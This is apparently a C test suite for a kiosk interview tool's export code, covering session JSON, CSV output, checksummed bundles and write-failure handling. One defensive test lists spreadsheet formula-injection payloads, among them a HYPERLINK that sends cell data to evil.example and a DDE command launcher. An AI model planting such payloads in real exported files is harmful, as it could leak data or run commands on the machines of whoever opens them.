/* Export: the session JSON of SPEC §4, the CSV read back by Python's csv
 * module, and bundles that are whole, verifiable and never half-written. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <dirent.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <jansson.h>

#include "export.h"
#include "hash.h"
#include "session.h"

#define CHECK_CSV TEST_SOURCE_DIR "/tests/e2e/check_csv.py"
#define CHECK_EXPORT TEST_SOURCE_DIR "/tests/e2e/check_export.py"
#define NOW_MS INT64_C(1795946400000)    /* 2026-11-29T10:00:00Z */

static const char *ARABIC = "أستخدم REST API مع قاعدة بيانات PostgreSQL";
static const char *TRICKY = "she said \"no, never\",\r\nthen\nleft; 🚀 , \"";

#define JOIN(buf, ...) \
	assert_true(snprintf(buf, sizeof buf, __VA_ARGS__) < (int)sizeof buf)

static void rm_tree(const char *path)
{
	struct stat sb;
	struct dirent *e;
	char sub[4096];
	DIR *d;

	if (lstat(path, &sb) != 0)
		return;
	if (S_ISDIR(sb.st_mode) && (d = opendir(path)) != NULL) {
		chmod(path, 0700);
		while ((e = readdir(d)) != NULL) {
			if (strcmp(e->d_name, ".") && strcmp(e->d_name, "..") &&
			    snprintf(sub, sizeof sub, "%s/%s", path, e->d_name) < (int)sizeof sub)
				rm_tree(sub);
		}
		closedir(d);
		rmdir(path);
	} else {
		unlink(path);
	}
}

static char *temp_dir(void)
{
	char tmpl[] = TEST_BUILD_DIR "/export-test-XXXXXX";

	assert_non_null(mkdtemp(tmpl));
	return strdup(tmpl);
}

static int count_entries(const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	int n = 0;

	assert_non_null(d);
	while ((e = readdir(d)) != NULL)
		n += strcmp(e->d_name, ".") && strcmp(e->d_name, "..");
	closedir(d);
	return n;
}

static char *slurp(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	char *buf;
	long n;

	assert_non_null(f);
	fseek(f, 0, SEEK_END);
	n = ftell(f);
	fseek(f, 0, SEEK_SET);
	buf = malloc((size_t)n + 1);
	assert_int_equal(fread(buf, 1, (size_t)n, f), (size_t)n);
	buf[n] = '\0';
	fclose(f);
	if (len)
		*len = (size_t)n;
	return buf;
}

static int64_t at(const char *stamp)
{
	int64_t ms;

	assert_int_equal(session_parse_time(stamp, &ms), 0);
	return ms;
}

static void fill(session_record *s, const char *id, session_status st, int answers)
{
	session_init(s);
	snprintf(s->id, sizeof s->id, "%.*s", SESSION_ID_LEN, id);
	s->revision = 3;
	s->time_percent = 150;
	snprintf(s->kiosk_id, sizeof s->kiosk_id, "berlin-01");
	snprintf(s->event_id, sizeof s->event_id, "2026-11-29-berlin");
	snprintf(s->event_hash, sizeof s->event_hash, "sha256:%064d", 1);
	s->threshold = 60;
	s->question_count = 6;
	for (int i = 0; i < 6; i++)
		snprintf(s->question_ids[i], SESSION_SHORT, "q%02d", i * 3 + 1);
	snprintf(s->pack_id, sizeof s->pack_id, "backend-developer");
	snprintf(s->pack_version, sizeof s->pack_version, "1.0.0");
	snprintf(s->pack_hash, sizeof s->pack_hash, "sha256:%064d", 2);
	snprintf(s->language, sizeof s->language, "ar");
	snprintf(s->consent_version, sizeof s->consent_version, "1");
	s->consent_at = at("2026-11-29T10:02:11Z");
	session_set_string(&s->name, "ليلى O'Brien, \"Lee\"");
	s->contact_count = 1;
	snprintf(s->contacts[0].key, SESSION_SHORT, "email");
	session_set_string(&s->contacts[0].value, "laila@example.com");
	s->started_at = at("2026-11-29T10:02:05Z") + 450;
	s->ended_at = st == SESSION_IN_PROGRESS || st == SESSION_INTERRUPTED
	              ? 0 : at("2026-11-29T10:24:40Z");
	s->status = st;
	s->answer_count = answers;
	for (int i = 0; i < answers; i++) {
		answer_record *a = &s->answers[i];
		char text[256];
		snprintf(a->question_id, SESSION_SHORT, "%s", s->question_ids[i]);
		snprintf(a->type, SESSION_SHORT, i % 2 ? "experience" : "general");
		snprintf(text, sizeof text, "السؤال %d: %s", i + 1, ARABIC);
		session_set_string(&a->question_text, text);
		session_set_string(&a->answer, i == 0 ? TRICKY : ARABIC);
		a->shown_at = at("2026-11-29T10:04:00Z") + i * 60000;
		a->first_input_ms = i == 1 ? -1 : 8200;
		a->submitted_ms = i == answers - 1 ? -1 : 182000;
		a->total_ms = 190000;
		a->active_ms = 121000;
		a->keystrokes = 912;
		a->deletions = 77;
		a->characters = 30;
		a->words = 6;
		a->timed_out = i == 2;
		a->skipped = i == 3;
		a->submitted = i != answers - 1;
	}
}

static void assert_keys(json_t *obj, const char *const *keys)
{
	const char *key;
	json_t *v;
	int i = 0;

	assert_true(json_is_object(obj));
	json_object_foreach(obj, key, v) {
		assert_non_null(keys[i]);
		assert_string_equal(key, keys[i]);
		i++;
	}
	assert_null(keys[i]);
}

static void test_session_json(void **state)
{
	static const char *const top[] = { "schema", "session_id", "revision", "kiosk_id",
		"event", "pack", "language", "consent", "candidate", "started_at",
		"ended_at", "status", "time_percent", "answers", NULL };
	static const char *const event[] = { "id", "threshold", "questions", "hash", NULL };
	static const char *const pack[] = { "id", "version", "hash", NULL };
	static const char *const consent[] = { "version", "given_at", NULL };
	static const char *const cand[] = { "name", "email", NULL };
	static const char *const answer[] = { "question_id", "type", "question_text",
		"answer", "shown_at", "first_input_ms", "submitted_ms", "total_ms",
		"active_ms", "keystrokes", "deletions", "characters", "words",
		"timed_out", "skipped", NULL };
	session_record s;
	json_t *root, *a;
	char *text;

	(void)state;
	fill(&s, "01JDX5R7Q8W2M4N6P8R0T2V4X6", SESSION_INTERRUPTED, 3);
	text = export_session_json(&s);
	assert_non_null(text);
	assert_int_equal(strncmp(text, "{\n  \"schema\": ", 14), 0);
	assert_string_equal(text + strlen(text) - 2, "}\n");
	root = json_loads(text, JSON_REJECT_DUPLICATES, NULL);
	assert_non_null(root);
	assert_keys(root, top);
	assert_keys(json_object_get(root, "event"), event);
	assert_keys(json_object_get(root, "pack"), pack);
	assert_keys(json_object_get(root, "consent"), consent);
	assert_keys(json_object_get(root, "candidate"), cand);
	assert_string_equal(json_string_value(json_object_get(root, "schema")),
	                    "prescreen.session.v1");
	assert_int_equal(json_integer_value(json_object_get(root, "revision")), 3);
	assert_string_equal(json_string_value(json_object_get(root, "started_at")),
	                    "2026-11-29T10:02:05Z");
	assert_true(json_is_null(json_object_get(root, "ended_at")));
	assert_string_equal(json_string_value(json_object_get(root, "status")),
	                    "interrupted");
	assert_int_equal(json_integer_value(json_object_get(root, "time_percent")), 150);
	assert_int_equal(json_integer_value(json_object_get(
		json_object_get(root, "event"), "threshold")), 60);
	assert_int_equal(json_array_size(json_object_get(
		json_object_get(root, "event"), "questions")), 6);
	assert_string_equal(json_string_value(json_object_get(
		json_object_get(root, "candidate"), "name")), s.name);
	assert_int_equal(json_array_size(json_object_get(root, "answers")), 3);
	a = json_array_get(json_object_get(root, "answers"), 0);
	assert_keys(a, answer);
	assert_string_equal(json_string_value(json_object_get(a, "answer")), TRICKY);
	assert_string_equal(json_string_value(json_object_get(a, "shown_at")),
	                    "2026-11-29T10:04:00Z");
	assert_int_equal(json_integer_value(json_object_get(a, "first_input_ms")), 8200);
	assert_int_equal(json_integer_value(json_object_get(a, "total_ms")), 190000);
	assert_true(json_is_false(json_object_get(a, "timed_out")));
	a = json_array_get(json_object_get(root, "answers"), 1);
	assert_true(json_is_null(json_object_get(a, "first_input_ms")));
	a = json_array_get(json_object_get(root, "answers"), 2);
	assert_true(json_is_null(json_object_get(a, "submitted_ms")));
	assert_true(json_is_true(json_object_get(a, "timed_out")));
	/* Non-ASCII goes out as UTF-8, not \u escapes. */
	assert_non_null(strstr(text, ARABIC));
	json_decref(root);
	free(text);
	session_clear(&s);
}

/* ---- the reference: the session as jansson builds and dumps it ---- */

#define REF_FIXED(m) (m), strnlen((m), sizeof(m))

static json_t *ref_time(int64_t ms)
{
	char t[32];

	if (ms == 0)
		return json_null();
	session_format_time(ms, t);
	return json_string(t);
}

static json_t *ref_text(const char *s)
{
	return s ? json_string(s) : json_null();
}

static char *reference_json(const session_record *s)
{
	json_t *answers = json_array(), *questions = json_array(), *cand, *root;
	char key[SESSION_SHORT], *text, *out;

	for (int i = 0; i < s->question_count && i < SESSION_MAX_QUESTIONS; i++)
		json_array_append_new(questions, json_stringn(REF_FIXED(s->question_ids[i])));
	cand = json_pack("{s:o}", "name", ref_text(s->name));
	for (int i = 0; i < s->contact_count && i < SESSION_MAX_CONTACTS; i++) {
		snprintf(key, sizeof key, "%.*s", (int)sizeof key - 1, s->contacts[i].key);
		if (json_object_get(cand, key) == NULL)
			json_object_set_new(cand, key, ref_text(s->contacts[i].value));
	}
	for (int i = 0; i < s->answer_count && i < SESSION_MAX_QUESTIONS; i++) {
		const answer_record *a = &s->answers[i];
		json_array_append_new(answers, json_pack(
			"{s:s%, s:s%, s:o, s:o, s:o, s:o, s:o, s:I, s:I, s:i, s:i, s:i, s:i, s:b, s:b}",
			"question_id", REF_FIXED(a->question_id), "type", REF_FIXED(a->type),
			"question_text", ref_text(a->question_text), "answer", ref_text(a->answer),
			"shown_at", ref_time(a->shown_at),
			"first_input_ms", a->first_input_ms < 0 ? json_null() : json_integer(a->first_input_ms),
			"submitted_ms", a->submitted_ms < 0 ? json_null() : json_integer(a->submitted_ms),
			"total_ms", (json_int_t)a->total_ms, "active_ms", (json_int_t)a->active_ms,
			"keystrokes", a->keystrokes, "deletions", a->deletions,
			"characters", a->characters, "words", a->words,
			"timed_out", (int)a->timed_out, "skipped", (int)a->skipped));
	}
	root = json_pack("{s:s, s:s%, s:I, s:s%, s:{s:s%, s:i, s:o, s:s%},"
	                 " s:{s:s%, s:s%, s:s%}, s:s%, s:{s:s%, s:o}, s:o, s:o, s:o, s:s, s:i, s:o}",
		"schema", "prescreen.session.v1", "session_id", REF_FIXED(s->id),
		"revision", (json_int_t)s->revision, "kiosk_id", REF_FIXED(s->kiosk_id),
		"event", "id", REF_FIXED(s->event_id), "threshold", s->threshold,
		"questions", questions, "hash", REF_FIXED(s->event_hash),
		"pack", "id", REF_FIXED(s->pack_id), "version", REF_FIXED(s->pack_version),
		"hash", REF_FIXED(s->pack_hash),
		"language", REF_FIXED(s->language),
		"consent", "version", REF_FIXED(s->consent_version),
		"given_at", ref_time(s->consent_at),
		"candidate", cand, "started_at", ref_time(s->started_at),
		"ended_at", ref_time(s->ended_at), "status", session_status_name(s->status),
		"time_percent", s->time_percent, "answers", answers);
	if (root == NULL)
		return NULL;
	text = json_dumps(root, JSON_INDENT(2) | JSON_PRESERVE_ORDER);
	json_decref(root);
	out = malloc(strlen(text) + 2);
	sprintf(out, "%s\n", text);
	free(text);
	return out;
}

/* The session files are written without building JSON objects: byte for
 * byte what jansson would dump, escapes and empty arrays included. */
static void test_json_as_jansson_writes_it(void **state)
{
	static const char *const strings[] = {
		"", "plain", "quote \" backslash \\ slash / ", "\x01\x02\x1f\x7f del",
		"\b\f\n\r\t", "line\r\nbreak", "\xe2\x80\xa8 U+2028 \xe2\x80\xa9",
		"👩🏽‍💻 🚀 naïve 简体中文 हिन्दी العربية", "\xef\xbb\xbf bom",
	};
	const int n = (int)(sizeof strings / sizeof strings[0]);
	session_record s;

	(void)state;
	for (int round = 0; round < 2 * n; round++) {
		char *mine, *theirs;
		const char *t = strings[round % n];
		fill(&s, "01JDX5R7Q8W2M4N6P8R0T2V4X6", (session_status)(round % 4),
		     round % (SESSION_MAX_QUESTIONS + 1));
		s.revision = round * 1000003LL;
		s.time_percent = round % 2 ? 200 : 100;
		s.question_count = round % 7;
		session_set_string(&s.name, round % 5 == 4 ? NULL : t);
		session_set_string(&s.answers[0].answer, t);
		session_set_string(&s.answers[1].question_text, round % 3 ? t : NULL);
		snprintf(s.kiosk_id, sizeof s.kiosk_id, "%s", round < n ? "k\"1" : "k/2");
		if (round % 3 == 0) {
			/* A duplicate key and one named "name" are dropped. */
			s.contact_count = 4;
			snprintf(s.contacts[1].key, SESSION_SHORT, "email");
			session_set_string(&s.contacts[1].value, "second@example.org");
			snprintf(s.contacts[2].key, SESSION_SHORT, "name");
			session_set_string(&s.contacts[2].value, "not the name");
			snprintf(s.contacts[3].key, SESSION_SHORT, "city");
			session_set_string(&s.contacts[3].value, round % 2 ? NULL : t);
		}
		if (round % 4 == 1)
			s.consent_at = 0;
		mine = export_session_json(&s);
		theirs = reference_json(&s);
		assert_non_null(mine);
		assert_non_null(theirs);
		if (strcmp(mine, theirs) != 0)
			fail_msg("round %d differs:\n--- jansson\n%s\n--- ours\n%s", round,
			         theirs, mine);
		free(mine);
		free(theirs);
		session_clear(&s);
	}
}

static void test_time_and_status(void **state)
{
	char t[32];
	int64_t ms;
	session_status st;

	(void)state;
	session_format_time(NOW_MS + 999, t);
	assert_string_equal(t, "2026-11-29T10:00:00Z");
	session_format_time(-1, t);
	assert_string_equal(t, "1969-12-31T23:59:59Z");
	assert_int_equal(session_parse_time(t, &ms), 0);
	assert_int_equal(ms, -1000);
	assert_int_equal(session_parse_time("2026-11-29T10:00:00Z", &ms), 0);
	assert_int_equal(ms, NOW_MS);
	assert_int_equal(session_parse_time("2024-02-29T00:00:00Z", &ms), 0);
	assert_int_equal(session_parse_time("2026-02-29T00:00:00Z", &ms), -1);
	assert_int_equal(session_parse_time("2026-11-29 10:00:00Z", &ms), -1);
	assert_int_equal(session_parse_time("2026-11-29T10:00:00", &ms), -1);
	assert_int_equal(session_parse_time("2026-11-29T10:00:00Zx", &ms), -1);
	assert_int_equal(session_parse_time("2026-13-01T00:00:00Z", &ms), -1);
	assert_int_equal(session_parse_time(NULL, &ms), -1);
	for (int i = SESSION_IN_PROGRESS; i <= SESSION_INTERRUPTED; i++) {
		assert_int_equal(session_status_parse(session_status_name(i), &st), 0);
		assert_int_equal(st, i);
	}
	assert_int_equal(session_status_parse("done", &st), -1);
}

/* Runs the Python reader and returns its records, one JSON array each. */
static json_t *python_rows(const char *csv_path)
{
	char cmd[8192], line[65536];
	json_t *rows = json_array();
	FILE *p;

	JOIN(cmd, "python3 '%s' '%s'", CHECK_CSV, csv_path);
	p = popen(cmd, "r");
	assert_non_null(p);
	while (fgets(line, sizeof line, p) != NULL) {
		json_t *row = json_loads(line, 0, NULL);
		assert_true(json_is_array(row));
		json_array_append_new(rows, row);
	}
	assert_int_equal(pclose(p), 0);
	return rows;
}

static const char *cell(json_t *rows, size_t r, const char *column)
{
	json_t *header = json_array_get(rows, 0);

	for (size_t i = 0; i < json_array_size(header); i++)
		if (strcmp(json_string_value(json_array_get(header, i)), column) == 0)
			return json_string_value(json_array_get(json_array_get(rows, r), i));
	fail_msg("no column %s", column);
	return NULL;
}

static void test_csv_round_trip(void **state)
{
	session_record s[3];
	char *dir = temp_dir(), path[4096];
	char *csv;
	json_t *rows;
	FILE *f;

	(void)state;
	fill(&s[0], "01JDX5R7Q8W2M4N6P8R0T2V4X6", SESSION_COMPLETED, 4);
	fill(&s[1], "01JDX5R7Q8W2M4N6P8R0T2V4X7", SESSION_ABANDONED, 0);
	fill(&s[2], "01JDX5R7Q8W2M4N6P8R0T2V4X8", SESSION_IN_PROGRESS, 1);
	/* Contact keys differ between sessions: every known one has a column. */
	snprintf(s[2].contacts[0].key, SESSION_SHORT, "phone");
	session_set_string(&s[2].contacts[0].value, "+49 30, \"home\"");
	session_set_string(&s[2].name, NULL);
	csv = export_sessions_csv(s, 3);
	assert_non_null(csv);
	/* A byte-order mark first, and only there. */
	assert_memory_equal(csv, "\xef\xbb\xbf", 3);
	assert_null(strstr(csv + 3, "\xef\xbb\xbf"));
	JOIN(path, "%s/sessions.csv", dir);
	f = fopen(path, "wb");
	fputs(csv, f);
	fclose(f);

	rows = python_rows(path);
	assert_int_equal(json_array_size(rows), 1 + 4 + 1 + 1);
	assert_string_equal(cell(rows, 0, "session_id"), "session_id");
	assert_int_equal(json_array_size(json_array_get(rows, 0)), 10 + 4 + 16);
	assert_string_equal(json_string_value(json_array_get(json_array_get(rows, 0), 10)),
	                    "contact_email");
	assert_string_equal(json_string_value(json_array_get(json_array_get(rows, 0), 11)),
	                    "contact_phone");
	assert_string_equal(json_string_value(json_array_get(json_array_get(rows, 0), 12)),
	                    "contact_city");
	assert_string_equal(json_string_value(json_array_get(json_array_get(rows, 0), 13)),
	                    "contact_linkedin");
	for (size_t r = 1; r <= 4; r++) {
		const answer_record *a = &s[0].answers[r - 1];
		char num[16];
		assert_string_equal(cell(rows, r, "session_id"), s[0].id);
		assert_string_equal(cell(rows, r, "candidate_name"), s[0].name);
		assert_string_equal(cell(rows, r, "contact_email"), "laila@example.com");
		assert_string_equal(cell(rows, r, "contact_phone"), "");
		snprintf(num, sizeof num, "%zu", r);
		assert_string_equal(cell(rows, r, "question_index"), num);
		assert_string_equal(cell(rows, r, "question_text"), a->question_text);
		assert_string_equal(cell(rows, r, "answer"), a->answer);
		assert_string_equal(cell(rows, r, "ended_at"), "2026-11-29T10:24:40Z");
		assert_string_equal(cell(rows, r, "timed_out"), r == 3 ? "true" : "false");
	}
	assert_string_equal(cell(rows, 1, "answer"), TRICKY);
	assert_string_equal(cell(rows, 2, "first_input_ms"), "");
	assert_string_equal(cell(rows, 4, "submitted_ms"), "");
	assert_string_equal(cell(rows, 1, "submitted_ms"), "182000");
	/* A session without answers: one row, empty question fields. */
	assert_string_equal(cell(rows, 5, "session_id"), s[1].id);
	assert_string_equal(cell(rows, 5, "status"), "abandoned");
	assert_string_equal(cell(rows, 5, "question_index"), "");
	assert_string_equal(cell(rows, 5, "answer"), "");
	assert_string_equal(cell(rows, 5, "skipped"), "");
	/* A leading + would make a spreadsheet compute the cell. */
	assert_string_equal(cell(rows, 6, "contact_phone"), "'+49 30, \"home\"");
	assert_string_equal(cell(rows, 6, "contact_email"), "");
	assert_string_equal(cell(rows, 6, "ended_at"), "");
	assert_string_equal(cell(rows, 6, "candidate_name"), "");

	json_decref(rows);
	free(csv);
	for (int i = 0; i < 3; i++)
		session_clear(&s[i]);
	rm_tree(dir);
	free(dir);
}

/* Sessions with no contacts, or other ones, give the same header. */
static void test_csv_header_fixed(void **state)
{
	session_record s;
	char *a, *b, *c;

	(void)state;
	fill(&s, "01JDX5R7Q8W2M4N6P8R0T2V4X6", SESSION_COMPLETED, 1);
	a = export_sessions_csv(&s, 1);
	s.contact_count = 0;
	b = export_sessions_csv(&s, 1);
	c = export_sessions_csv(NULL, 0);
	assert_non_null(a);
	assert_non_null(b);
	assert_non_null(c);
	assert_int_equal(strcspn(a, "\n"), strcspn(c, "\n"));
	assert_memory_equal(a, c, strcspn(c, "\n"));
	assert_memory_equal(b, c, strcspn(c, "\n"));
	assert_string_equal(c, "\xef\xbb\xbfsession_id,kiosk_id,event_id,pack_id,pack_version,"
		"language,status,started_at,ended_at,candidate_name,contact_email,"
		"contact_phone,contact_city,contact_linkedin,question_index,question_id,"
		"type,question_text,answer,shown_at,first_input_ms,submitted_ms,"
		"total_ms,active_ms,keystrokes,deletions,characters,words,timed_out,"
		"skipped\r\n");
	free(a);
	free(b);
	free(c);
	session_clear(&s);
}

/* Cells a spreadsheet would run as formulas (OWASP's list) start with an
 * apostrophe and are quoted; Python reads the rest back exactly. */
static void test_csv_formulas(void **state)
{
	static const char *const evil[] = {
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3",
		"@SUM(1,2)", "\tTabbed", "\rCarriage", "=cmd|' /C calc'!A0",
	};
	const int n = (int)(sizeof evil / sizeof evil[0]);
	session_record s;
	char *dir = temp_dir(), path[4096], want[256], *csv;
	json_t *rows;
	FILE *f;

	(void)state;
	fill(&s, "01JDX5R7Q8W2M4N6P8R0T2V4X6", SESSION_COMPLETED, n);
	for (int i = 0; i < n; i++)
		session_set_string(&s.answers[i].answer, evil[i]);
	session_set_string(&s.name, "=1+2");
	session_set_string(&s.contacts[0].value, "@example");
	csv = export_sessions_csv(&s, 1);
	assert_non_null(csv);
	assert_non_null(strstr(csv, ",\"'=1+2\","));
	JOIN(path, "%s/sessions.csv", dir);
	f = fopen(path, "wb");
	fputs(csv, f);
	fclose(f);
	rows = python_rows(path);
	assert_int_equal(json_array_size(rows), 1 + (size_t)n);
	for (int i = 0; i < n; i++) {
		JOIN(want, "'%s", evil[i]);
		assert_string_equal(cell(rows, 1 + (size_t)i, "answer"), want);
		assert_string_equal(cell(rows, 1 + (size_t)i, "candidate_name"), "'=1+2");
		assert_string_equal(cell(rows, 1 + (size_t)i, "contact_email"), "'@example");
	}
	/* Only the first character counts. */
	assert_string_equal(cell(rows, 1, "session_id"), s.id);
	json_decref(rows);
	free(csv);
	session_clear(&s);
	rm_tree(dir);
	free(dir);
}

static void make_sessions(session_record *s, int n)
{
	static const session_status st[] = { SESSION_COMPLETED, SESSION_ABANDONED,
		SESSION_INTERRUPTED, SESSION_IN_PROGRESS };
	char id[40];

	for (int i = 0; i < n; i++) {
		snprintf(id, sizeof id, "01JDX5R7Q8W2M4N6P8R0T2V%03d", i % 1000);
		fill(&s[i], id, st[i % 4], i % 4 == 1 ? 0 : 1 + i % 6);
	}
}

static int run_checker(const char *bundle)
{
	char cmd[8192];
	int rc;

	JOIN(cmd, "python3 '%s' '%s' >/dev/null", CHECK_EXPORT, bundle);
	rc = system(cmd);
	return WIFEXITED(rc) ? WEXITSTATUS(rc) : -1;
}

static void test_bundle(void **state)
{
	session_record s[6];
	char *dir = temp_dir(), err[512] = "", one[4096], two[4096], path[4096];
	char want[HASH_HEX_LEN + 1];
	json_t *m, *files, *v;
	const char *rel;

	(void)state;
	make_sessions(s, 6);
	assert_int_equal(export_bundle(dir, "berlin-01", s, 6, NOW_MS, one, sizeof one,
	                               err, sizeof err), 0);
	JOIN(path, "%s/prescreen-export-berlin-01-20261129T100000Z", dir);
	assert_string_equal(one, path);
	assert_int_equal(export_bundle(dir, "berlin-01", s, 6, NOW_MS + 60000, two,
	                               sizeof two, err, sizeof err), 0);
	assert_int_equal(count_entries(dir), 2);

	/* Same sessions, same bytes; manifests differ only by date. */
	for (int i = 0; i < 6; i++) {
		char *x, *y;
		size_t lx, ly;
		JOIN(path, "%s/sessions/%s.json", one, s[i].id);
		x = slurp(path, &lx);
		JOIN(path, "%s/sessions/%s.json", two, s[i].id);
		y = slurp(path, &ly);
		assert_int_equal(lx, ly);
		assert_memory_equal(x, y, lx);
		free(x);
		free(y);
	}

	/* Every checksum in the manifest matches the file, re-hashed. */
	JOIN(path, "%s/manifest.json", one);
	m = json_load_file(path, 0, NULL);
	assert_non_null(m);
	/* Laid out as jansson lays it out, though written line by line. */
	{
		char *bytes = slurp(path, NULL), *again = json_dumps(m, JSON_INDENT(2) |
		                                                       JSON_PRESERVE_ORDER);
		assert_non_null(again);
		assert_int_equal(strlen(bytes), strlen(again) + 1);
		assert_memory_equal(bytes, again, strlen(again));
		assert_string_equal(bytes + strlen(again), "\n");
		free(bytes);
		free(again);
	}
	assert_string_equal(json_string_value(json_object_get(m, "schema")),
	                    "prescreen.manifest.v1");
	files = json_object_get(m, "files");
	assert_int_equal(json_object_size(files), 7);
	json_object_foreach(files, rel, v) {
		JOIN(path, "%s/%s", one, rel);
		assert_int_equal(hash_file_hex(path, want), 0);
		assert_string_equal(json_string_value(v) + 7, want);
	}
	assert_int_equal(json_integer_value(json_object_get(m, "threshold")), 60);
	assert_int_equal(json_integer_value(json_object_get(
		json_object_get(m, "counts"), "sessions")), 6);
	assert_int_equal(json_integer_value(json_object_get(
		json_object_get(m, "counts"), "abandoned")), 2);
	assert_int_equal(json_array_size(json_object_get(m, "events")), 1);
	json_decref(m);

	assert_int_equal(run_checker(one), 0);
	/* The checker notices a changed byte. */
	JOIN(path, "%s/sessions.csv", two);
	assert_int_equal(truncate(path, 10), 0);
	assert_int_equal(run_checker(two), 1);

	for (int i = 0; i < 6; i++)
		session_clear(&s[i]);
	rm_tree(dir);
	free(dir);
}

/* The same session exported while in progress and again once completed:
 * two files with one id, and the revision says which is newer. */
static void test_revision_orders_exports(void **state)
{
	session_record s;
	char *dir = temp_dir(), err[512] = "", one[4096], two[4096], path[4096];
	json_t *a, *b;

	(void)state;
	fill(&s, "01JDX5R7Q8W2M4N6P8R0T2V4X6", SESSION_IN_PROGRESS, 2);
	s.revision = 41;
	assert_int_equal(export_bundle(dir, "berlin-01", &s, 1, NOW_MS, one, sizeof one,
	                               err, sizeof err), 0);
	s.status = SESSION_COMPLETED;
	s.ended_at = at("2026-11-29T10:24:40Z");
	s.revision = 42;
	assert_int_equal(export_bundle(dir, "berlin-01", &s, 1, NOW_MS + 1000, two,
	                               sizeof two, err, sizeof err), 0);
	JOIN(path, "%s/sessions/%s.json", one, s.id);
	a = json_load_file(path, 0, NULL);
	JOIN(path, "%s/sessions/%s.json", two, s.id);
	b = json_load_file(path, 0, NULL);
	assert_non_null(a);
	assert_non_null(b);
	assert_int_equal(json_integer_value(json_object_get(a, "revision")), 41);
	assert_int_equal(json_integer_value(json_object_get(b, "revision")), 42);
	assert_string_equal(json_string_value(json_object_get(b, "status")), "completed");
	json_decref(a);
	json_decref(b);
	session_clear(&s);
	rm_tree(dir);
	free(dir);
}

static void test_bundle_mixed_events(void **state)
{
	session_record s[3];
	char *dir = temp_dir(), err[512] = "", out[4096], path[4096];
	json_t *m;

	(void)state;
	make_sessions(s, 3);
	s[2].threshold = 70;
	snprintf(s[2].event_id, sizeof s[2].event_id, "2026-11-30-berlin");
	assert_int_equal(export_bundle(dir, "berlin-01", s, 3, NOW_MS, out, sizeof out,
	                               err, sizeof err), 0);
	JOIN(path, "%s/manifest.json", out);
	m = json_load_file(path, 0, NULL);
	assert_int_equal(json_array_size(json_object_get(m, "events")), 2);
	assert_int_equal(json_array_size(json_object_get(m, "packs")), 1);
	assert_true(json_is_null(json_object_get(m, "threshold")));
	json_decref(m);
	assert_int_equal(run_checker(out), 0);

	/* An empty export is still a valid bundle. */
	assert_int_equal(export_bundle(dir, "berlin-01", s, 0, NOW_MS + 1000, out,
	                               sizeof out, err, sizeof err), 0);
	assert_int_equal(run_checker(out), 0);
	for (int i = 0; i < 3; i++)
		session_clear(&s[i]);
	rm_tree(dir);
	free(dir);
}

static void test_collision_and_name(void **state)
{
	session_record s[2];
	char *dir = temp_dir(), err[512] = "", out[4096], path[4096];

	(void)state;
	make_sessions(s, 2);
	/* An empty folder of the final name must not be silently replaced. */
	JOIN(path, "%s/prescreen-export-berlin-01-20261129T100000Z", dir);
	assert_int_equal(mkdir(path, 0700), 0);
	assert_int_equal(export_bundle(dir, "berlin-01", s, 2, NOW_MS, out, sizeof out,
	                               err, sizeof err), 0);
	JOIN(path, "%s/prescreen-export-berlin-01-20261129T100000Z-2", dir);
	assert_string_equal(out, path);
	assert_int_equal(export_bundle(dir, "berlin-01", s, 2, NOW_MS, out, sizeof out,
	                               err, sizeof err), 0);
	JOIN(path, "%s/prescreen-export-berlin-01-20261129T100000Z-3", dir);
	assert_string_equal(out, path);

	/* The kiosk id becomes a safe path component, byte by byte. */
	assert_int_equal(export_bundle(dir, "../Zé kiosk/1", s, 2, NOW_MS, out,
	                               sizeof out, err, sizeof err), 0);
	JOIN(path, "%s/prescreen-export-.._Z___kiosk_1-20261129T100000Z", dir);
	assert_string_equal(out, path);
	assert_int_equal(count_entries(dir), 4);
	for (int i = 0; i < 2; i++)
		session_clear(&s[i]);
	rm_tree(dir);
	free(dir);
}

static void test_unwritable(void **state)
{
	session_record s[2];
	char *dir = temp_dir(), err[512] = "", out[4096] = "", path[4096];

	(void)state;
	make_sessions(s, 2);
	/* Under a regular file: fails even for root. */
	assert_int_equal(export_bundle("/dev/null/x", "k", s, 2, NOW_MS, out,
	                               sizeof out, err, sizeof err), -1);
	assert_non_null(strstr(err, "/dev/null/x"));
	assert_null(strchr(err, '\n'));
	assert_string_equal(out, "");

	JOIN(path, "%s/missing", dir);
	err[0] = '\0';
	assert_int_equal(export_bundle(path, "k", s, 2, NOW_MS, NULL, 0,
	                               err, sizeof err), -1);
	assert_non_null(strstr(err, path));
	assert_non_null(strstr(err, strerror(ENOENT)));

	JOIN(path, "%s/ro", dir);
	assert_int_equal(mkdir(path, 0500), 0);
	if (geteuid() != 0) {
		err[0] = '\0';
		assert_int_equal(export_bundle(path, "k", s, 2, NOW_MS, NULL, 0,
		                               err, sizeof err), -1);
		assert_non_null(strstr(err, path));
		assert_non_null(strstr(err, strerror(EACCES)));
		assert_int_equal(count_entries(path), 0);
	}
	assert_int_equal(count_entries(dir), 1);
	for (int i = 0; i < 2; i++)
		session_clear(&s[i]);
	rm_tree(dir);
	free(dir);
}

/* A full disk, as far as write() can tell: the file size limit makes the
 * kernel refuse the write mid-bundle, like ENOSPC would. */
static void test_write_fails_midway(void **state)
{
	session_record s[8];
	char *dir = temp_dir(), err[512] = "";
	struct rlimit old, small;

	(void)state;
	make_sessions(s, 8);
	signal(SIGXFSZ, SIG_IGN);
	assert_int_equal(getrlimit(RLIMIT_FSIZE, &old), 0);
	small = old;
	small.rlim_cur = 5000;    /* room for a few session files, not the CSV */
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &small), 0);
	assert_int_equal(export_bundle(dir, "berlin-01", s, 8, NOW_MS, NULL, 0,
	                               err, sizeof err), -1);
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &old), 0);
	signal(SIGXFSZ, SIG_DFL);
	assert_non_null(strstr(err, dir));
	assert_non_null(strstr(err, strerror(EFBIG)));
	/* No half bundle, not even the hidden temporary one. */
	assert_int_equal(count_entries(dir), 0);
	for (int i = 0; i < 8; i++)
		session_clear(&s[i]);
	rm_tree(dir);
	free(dir);
}

